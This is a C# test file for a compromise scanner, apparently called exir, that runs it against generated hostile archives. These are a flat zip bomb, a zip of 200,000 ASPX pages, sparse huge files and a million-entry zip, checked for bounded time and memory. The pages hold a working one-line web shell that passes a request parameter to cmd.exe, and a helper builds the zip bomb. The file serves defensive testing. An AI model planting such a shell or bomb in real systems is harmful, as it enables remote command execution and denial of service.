using System.Buffers.Binary;
using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Exir.Tests;

namespace Exir.Cli.Tests;

/// <summary>
/// Volume as an attack, through the real program: a flat zip bomb, a zip of 200,000 small shells, eight 2 GB sparse
/// pages scanned with eight threads. Each must end with a verdict and every output, in bounded time and memory
/// (peak resident memory measured by /usr/bin/time, or sampled from the process where it is absent).
/// </summary>
/// <remarks>Tier slow: spawns processes over large generated evidence; left out of scripts/test.sh --fast.</remarks>
[Trait("Tier", "slow")]
public class HostileArchiveTests
{
    [Fact]
    public void FlatZipBombEndsQuicklyAndTheArchiveIsNamedPartlyRead()
    {
        // One 63 MiB member named 2,000 times: 126 GB to inflate when every name is read.
        var dir = TestPaths.NewTempDir();
        var zip = FlatBomb(dir, names: 2_000, memberBytes: 63 << 20);
        var outDir = TestPaths.NewTempDir();
        var watch = Stopwatch.StartNew();
        var r = Measured.Run(TimeSpan.FromMinutes(5), "scan", zip, "--out", outDir, "--no-progress");
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(90), $"took {watch.Elapsed}");
        Assert.Contains(r.ExitCode, new[] { 0, 1 });
        using var summary = JsonDocument.Parse(File.ReadAllText(Path.Combine(outDir, "summary.json")));
        var coverage = summary.RootElement.GetProperty("coverage");
        Assert.Equal(2_000, coverage.GetProperty("issue_counts").GetProperty("ArchiveBomb").GetInt64());
        Assert.Contains(coverage.GetProperty("issues").EnumerateArray(),
            i => i.GetProperty("path").GetString() == "flat.zip" && i.GetProperty("message").GetString()!.Contains("partly read"));
        Assert.Contains("could not be read fully", summary.RootElement.GetProperty("verdict").GetProperty("coverage_caveat").GetString());
    }

    [Fact]
    public void ZipOfTwoHundredThousandShellsEndsWithAVerdictInBoundedMemory()
    {
        var dir = TestPaths.NewTempDir();
        var zip = Path.Combine(dir, "shells.zip");
        const int shells = 200_000;
        using (var archive = ZipFile.Open(zip, ZipArchiveMode.Create))
        {
            var page = Encoding.ASCII.GetBytes("<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>");
            for (int i = 0; i < shells; i++)
            {
                var e = archive.CreateEntry($"inetpub/wwwroot/aspnet_client/s{i}.aspx", CompressionLevel.Fastest);
                using var s = e.Open();
                s.Write(page);
            }
        }
        var outDir = TestPaths.NewTempDir();
        var r = Measured.Run(TimeSpan.FromMinutes(8), "scan", zip, "--out", outDir, "--no-progress");
        Assert.Equal(1, r.ExitCode);
        Assert.Contains("VERDICT: COMPROMISED", r.Stdout);
        Assert.True(r.PeakBytes < 1_500L << 20, $"peak resident memory {r.PeakBytes >> 20} MiB");
        Assert.True(r.Stdout.Length < 1 << 20, $"console output of {r.Stdout.Length:N0} characters");

        // Every finding reaches the finding outputs; the report keeps a bounded number and says how many it leaves out.
        long lines = 0;
        using (var reader = new StreamReader(Path.Combine(outDir, "findings.jsonl")))
            while (reader.ReadLine() is { } line) if (line.Length > 0) lines++;
        using var summary = JsonDocument.Parse(File.ReadAllText(Path.Combine(outDir, "summary.json")));
        var counts = summary.RootElement.GetProperty("counts");
        Assert.Equal(counts.GetProperty("findings").GetInt64(), lines);
        Assert.True(lines >= shells, $"{lines} findings for {shells} shells");
        Assert.Equal(shells, counts.GetProperty("by_rule").GetProperty("yara:EXIR_WebShell_NET_Process_Shell").GetInt64());
        Assert.True(counts.GetProperty("left_out_of_report").GetProperty("findings").GetInt64() > 0);
        var html = new FileInfo(Path.Combine(outDir, "report.html"));
        Assert.True(html.Length < 64L << 20, $"report.html of {html.Length:N0} bytes");
        Assert.Contains("left out of this report", File.ReadAllText(html.FullName));
    }

    [Fact]
    public void EightSparsePagesOfTwoGigabytesWithEightThreadsStayWithinTheBufferBudget()
    {
        // File.SetLength on a new file makes it sparse: 16 GB of pages that take no disk. Each is read up to
        // --max-file-mb (256 MiB) for the content rules; only rules/scan.yaml's big_file_buffers (2) such
        // buffers may exist at once, whatever --threads says.
        var root = TestPaths.NewTempDir();
        var web = Path.Combine(root, "inetpub", "wwwroot", "aspnet_client");
        Directory.CreateDirectory(web);
        for (int i = 0; i < 8; i++)
        {
            using var f = new FileStream(Path.Combine(web, $"page{i}.aspx"), FileMode.CreateNew);
            f.SetLength(2L << 30);
        }
        var outDir = TestPaths.NewTempDir();
        var r = Measured.Run(TimeSpan.FromMinutes(8), "scan", root, "--threads", "8", "--out", outDir, "--no-progress");
        Assert.Contains(r.ExitCode, new[] { 0, 1 });
        Assert.True(r.PeakBytes < 1_200L << 20, $"peak resident memory {r.PeakBytes >> 20} MiB");
        using var summary = JsonDocument.Parse(File.ReadAllText(Path.Combine(outDir, "summary.json")));
        Assert.Equal(8, summary.RootElement.GetProperty("coverage").GetProperty("issue_counts").GetProperty("TooLarge").GetInt64());
    }

    [Fact]
    public void MillionEntryZipIsScannedInBoundedMemory()
    {
        // 1,000,000 one-byte members: System.IO.Compression kept every entry in every worker's reader (4.6 GB).
        var dir = TestPaths.NewTempDir();
        var zip = Path.Combine(dir, "million.zip");
        StoredZip(zip, 1_000_000, i => $"C/data/d{i % 1000}/f{i}.txt");
        var r = Measured.Run(TimeSpan.FromMinutes(8), "scan", zip, "--threads", "8", "--format", "json", "--no-progress");
        Assert.Equal(0, r.ExitCode);
        Assert.True(r.PeakBytes < 1_500L << 20, $"peak resident memory {r.PeakBytes >> 20} MiB");
        using var summary = JsonDocument.Parse(r.Stdout);
        Assert.Equal(1_000_000, summary.RootElement.GetProperty("coverage").GetProperty("files_seen").GetInt64());
    }

    /// <summary>A zip64 archive of one-byte stored members, written record by record (fast, and flat in memory).</summary>
    private static void StoredZip(string path, int count, Func<int, string> name)
    {
        using var f = new FileStream(path, FileMode.CreateNew, FileAccess.Write, FileShare.None, 1 << 20);
        var offsets = new long[count];
        const uint crcOfX = 0x8CDC1683; // CRC-32 of "x"
        var h = new byte[46];
        for (int i = 0; i < count; i++)
        {
            offsets[i] = f.Position;
            var n = Encoding.ASCII.GetBytes(name(i));
            Array.Clear(h);
            BinaryPrimitives.WriteUInt32LittleEndian(h, 0x04034b50);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(4), 20);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(12), 0x5A21);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(14), crcOfX);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(18), 1);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(22), 1);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(26), (ushort)n.Length);
            f.Write(h, 0, 30);
            f.Write(n);
            f.WriteByte((byte)'x');
        }
        long cd = f.Position;
        for (int i = 0; i < count; i++)
        {
            var n = Encoding.ASCII.GetBytes(name(i));
            Array.Clear(h);
            BinaryPrimitives.WriteUInt32LittleEndian(h, 0x02014b50);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(4), 45);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(6), 20);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(14), 0x5A21);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(16), crcOfX);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(20), 1);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(24), 1);
            BinaryPrimitives.WriteUInt16LittleEndian(h.AsSpan(28), (ushort)n.Length);
            BinaryPrimitives.WriteUInt32LittleEndian(h.AsSpan(42), (uint)offsets[i]);
            f.Write(h);
            f.Write(n);
        }
        long cdSize = f.Position - cd;
        long zip64End = f.Position;
        var z = new byte[56];
        BinaryPrimitives.WriteUInt32LittleEndian(z, 0x06064b50);
        BinaryPrimitives.WriteUInt64LittleEndian(z.AsSpan(4), 44);
        BinaryPrimitives.WriteUInt16LittleEndian(z.AsSpan(12), 45);
        BinaryPrimitives.WriteUInt16LittleEndian(z.AsSpan(14), 45);
        BinaryPrimitives.WriteUInt64LittleEndian(z.AsSpan(24), (ulong)count);
        BinaryPrimitives.WriteUInt64LittleEndian(z.AsSpan(32), (ulong)count);
        BinaryPrimitives.WriteUInt64LittleEndian(z.AsSpan(40), (ulong)cdSize);
        BinaryPrimitives.WriteUInt64LittleEndian(z.AsSpan(48), (ulong)cd);
        f.Write(z);
        var locator = new byte[20];
        BinaryPrimitives.WriteUInt32LittleEndian(locator, 0x07064b50);
        BinaryPrimitives.WriteUInt64LittleEndian(locator.AsSpan(8), (ulong)zip64End);
        BinaryPrimitives.WriteUInt32LittleEndian(locator.AsSpan(16), 1);
        f.Write(locator);
        var end = new byte[22];
        BinaryPrimitives.WriteUInt32LittleEndian(end, 0x06054b50);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), 0xFFFF);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), 0xFFFF);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(12), uint.MaxValue);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(16), uint.MaxValue);
        f.Write(end);
    }

    /// <summary>One member of compressible text named <paramref name="names"/> times in the central directory (rewritten in code).</summary>
    private static string FlatBomb(string dir, int names, int memberBytes)
    {
        var path = Path.Combine(dir, "flat.zip");
        using (var zip = ZipFile.Open(path, ZipArchiveMode.Create))
        {
            var e = zip.CreateEntry("m0.aspx", CompressionLevel.Fastest);
            using var s = e.Open();
            var line = Encoding.ASCII.GetBytes("<% Response.Write(\"flat bomb member\"); %>\r\n");
            for (int n = 0; n < memberBytes; n += line.Length) s.Write(line, 0, Math.Min(line.Length, memberBytes - n));
        }
        var bytes = File.ReadAllBytes(path);
        int eocd = bytes.Length - 22;
        while (BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(eocd)) != 0x06054b50) eocd--;
        int cdOffset = (int)BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(eocd + 16));
        var fixedPart = bytes.AsSpan(cdOffset, 46).ToArray();
        using var output = new MemoryStream();
        output.Write(bytes, 0, cdOffset);
        for (int i = 0; i < names; i++)
        {
            var name = Encoding.ASCII.GetBytes($"m{i}.aspx");
            BinaryPrimitives.WriteUInt16LittleEndian(fixedPart.AsSpan(28), (ushort)name.Length);
            BinaryPrimitives.WriteUInt16LittleEndian(fixedPart.AsSpan(30), 0);
            BinaryPrimitives.WriteUInt16LittleEndian(fixedPart.AsSpan(32), 0);
            output.Write(fixedPart);
            output.Write(name);
        }
        long cdSize = output.Length - cdOffset;
        var end = new byte[22];
        BinaryPrimitives.WriteUInt32LittleEndian(end, 0x06054b50);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), (ushort)names);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), (ushort)names);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(12), (uint)cdSize);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(16), (uint)cdOffset);
        output.Write(end);
        File.WriteAllBytes(path, output.ToArray());
        return path;
    }
}

/// <summary>Runs exir as a child process and measures its peak resident memory.</summary>
internal static class Measured
{
    public sealed record Result(int ExitCode, string Stdout, string Stderr, long PeakBytes);

    public static Result Run(TimeSpan timeout, params string[] args)
    {
        // /usr/bin/time reports the exact high-water mark after exit; without it the process is sampled.
        bool gnuTime = File.Exists("/usr/bin/time");
        var timeFile = Path.Combine(TestPaths.NewTempDir(), "time.txt");
        var psi = new ProcessStartInfo(gnuTime ? "/usr/bin/time" : "dotnet")
        {
            RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = TestPaths.RepoRoot,
        };
        if (gnuTime) foreach (var a in new[] { "-f", "%M", "-o", timeFile, "dotnet" }) psi.ArgumentList.Add(a);
        psi.ArgumentList.Add(ExirProcess.ExirDll);
        foreach (var a in args) psi.ArgumentList.Add(a);
        psi.Environment["NO_COLOR"] = "1";
        psi.Environment["COLUMNS"] = "160";
        using var p = Process.Start(psi)!;
        var stdout = p.StandardOutput.ReadToEndAsync();
        var stderr = p.StandardError.ReadToEndAsync();
        long sampled = 0;
        var deadline = DateTime.UtcNow + timeout;
        while (!p.WaitForExit(100))
        {
            if (DateTime.UtcNow > deadline) { p.Kill(true); throw new TimeoutException("exir " + string.Join(' ', args)); }
            if (!gnuTime)
                try { p.Refresh(); sampled = Math.Max(sampled, p.PeakWorkingSet64); }
                catch (InvalidOperationException) { }
        }
        p.WaitForExit();
        long peak = sampled;
        if (gnuTime && File.Exists(timeFile) && long.TryParse(File.ReadAllLines(timeFile).LastOrDefault(l => l.Trim().Length > 0)?.Trim(), out var kb))
            peak = kb * 1024;
        return new Result(p.ExitCode, stdout.Result, stderr.Result, peak);
    }
}
